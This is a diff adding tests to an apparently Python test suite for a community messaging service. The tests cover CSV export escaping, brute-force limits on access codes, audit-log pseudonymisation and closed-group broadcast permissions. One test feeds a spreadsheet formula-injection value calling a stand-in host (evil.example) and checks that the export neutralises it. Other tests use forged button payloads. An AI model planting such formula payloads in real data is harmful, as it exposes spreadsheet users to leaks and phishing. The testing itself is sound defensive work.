@@ -4,6 +4,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from typing import Any
@@ -13,7 +15,7 @@ from sqlalchemy import select
 from sqlalchemy.ext.asyncio import AsyncEngine
 
 from config.deployment import demo_folder, load_deployment
-from conversations.definitions import Deployment, Initiative
+from conversations.definitions import Deployment, Initiative, Topic
 from conversations.engine import Engine
 from conversations.identity import pseudonym
 from conversations.ports import Clock
@@ -214,8 +216,21 @@ async def test_a_shared_contact_is_kept_for_that_initiative_only(
     export = await CommunityStore(engine).export_sign_ups("small_dialogue", chatham_house=False)
     header, row = export.strip().splitlines()
     assert header == "volunteer,status,signed_up_at,shared_contact"
-    assert row.endswith(",placed,2026-11-22T12:00:00Z,+235 66 00 00 00")
+    assert row.endswith(",placed,2026-11-22T12:00:00Z,'+235 66 00 00 00")  # never a formula
     assert amina.id not in export  # the stored pseudonym never leaves
+
+
+async def test_a_contact_that_a_spreadsheet_would_run_is_exported_as_text(
+    service: ConversationService, engine: AsyncEngine
+) -> None:
+    (amina,) = await people(service, "amina")
+    await amina.send("/initiatives")
+    await amina.press("Small dialogue")
+    await amina.press("Sign up and share a contact")
+    await amina.send('=HYPERLINK("https://evil.example/?x","call me")')
+    export = await CommunityStore(engine).export_sign_ups("small_dialogue", chatham_house=False)
+    (row,) = list(csv.reader(io.StringIO(export)))[1:]
+    assert row[3] == '\'=HYPERLINK("https://evil.example/?x","call me")'
 
 
 async def test_signing_up_twice_or_after_the_start_is_refused(
@@ -370,6 +385,36 @@ async def test_brute_forcing_an_access_code_is_stopped(
     assert "Too many wrong codes" in await mallory.send(f"/join {code}")
     clock.at = NOW + timedelta(hours=1, minutes=1)
     assert "member of the group" in await mallory.send(f"/join {code}")
+
+
+async def test_forget_keeps_the_wrong_code_limit_and_unnames_the_audit_log(
+    service: ConversationService, engine: AsyncEngine, clock: MovableClock
+) -> None:
+    store = CommunityStore(engine)
+    code = await store.create_group("civil", "Civil society forum", False, NOW)
+    mallory, admin = await people(service, "mallory", "admin")
+    await store.add_staff(admin.id, "organizer", NOW)
+    await mallory.send("/subscribe")
+    await mallory.press("☐ News on the peace talks")
+    await admin.send("/broadcast")
+    await admin.press("News on the peace talks")
+    await admin.send("Talks on Monday.")
+    await admin.press("Send")
+    for n in range(MAX_WRONG_CODES):
+        await mallory.send(f"/join GUESS-{n:04d}-0000-0000")
+    for person in (mallory, admin):
+        await person.send("/forget")
+        await person.press("Yes, erase")
+    await mallory.onboard()
+    assert "Too many wrong codes" in await mallory.send(f"/join {code}")  # not reset
+    clock.at = NOW + timedelta(hours=1, minutes=1)
+    assert "member of the group" in await mallory.send(f"/join {code}")
+    async with engine.connect() as connection:
+        entries = (await connection.execute(select(AuditEntry.actor, AuditEntry.subject))).all()
+    assert entries and not any(admin.id in f"{a} {s}" for a, s in entries)
+    erased = {a for a, _ in entries if a.startswith("erased-")}
+    assert len(erased) == 1  # one new name for all of the admin's entries
+    assert {s for _, s in entries if s.startswith("organizer:")} == {f"organizer:{erased.pop()}"}
 
 
 # --- organizers ---------------------------------------------------------------------------
@@ -545,6 +590,37 @@ async def test_a_closed_groups_broadcast_reaches_its_members_only(
     outsider.buttons = {"forged": "-:ob:#civil"}
     await CommunityStore(engine).add_staff(outsider.id, "organizer", NOW)
     assert "This button has expired" in await outsider.press("forged")
+
+
+async def test_a_closed_groups_topic_is_broadcast_to_by_its_members_only(
+    engine: AsyncEngine, clock: MovableClock
+) -> None:
+    demo = deployment_with(small_initiative())
+    forum = Topic.model_validate(
+        {"id": "forum", "name": {"en": "Forum news", "fr": "F", "ar": "ف"}, "group": "civil"}
+    )
+    closed = demo.model_copy(update={"topics": (*demo.topics, forum)})
+    service = ConversationService(
+        Engine(closed, fake_detect), unit_of_work_factory(engine), SECRET, clock
+    )
+    member, outsider = await people(service, "member", "outsider")
+    store = CommunityStore(engine)
+    code = await store.create_group("civil", "Civil forum", False, NOW)
+    await member.send(f"/join {code}")
+    await member.send("/subscribe")
+    await member.press("☐ Forum news")
+    for person in (member, outsider):
+        await store.add_staff(person.id, "organizer", NOW)
+    await outsider.send("/broadcast")
+    assert "Forum news" not in outsider.buttons  # not offered
+    outsider.buttons = {"forged": "-:ob:forum"}
+    assert "This button has expired" in await outsider.press("forged")
+    assert await outbox(engine) == []
+    await member.send("/broadcast")
+    assert "(1 people now)" in await member.press("Forum news")
+    await member.send("Thursday, as agreed.")
+    await member.press("Send")
+    assert [who for _, who, _ in await outbox(engine)] == [member.id]
 
 
 async def test_forget_erases_sign_ups_roles_and_memberships(
